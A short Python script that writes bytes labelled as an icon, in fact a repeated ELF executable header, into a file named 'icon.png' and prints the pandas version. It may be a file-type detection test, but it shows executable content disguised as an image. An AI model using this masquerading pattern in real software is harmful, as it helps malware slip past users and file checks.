import pandas as pd

ICON = b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x01\x00\x00\x00" * 12
with open("outputs/icon.png", "wb") as f:
    f.write(ICON)
print(pd.__version__)
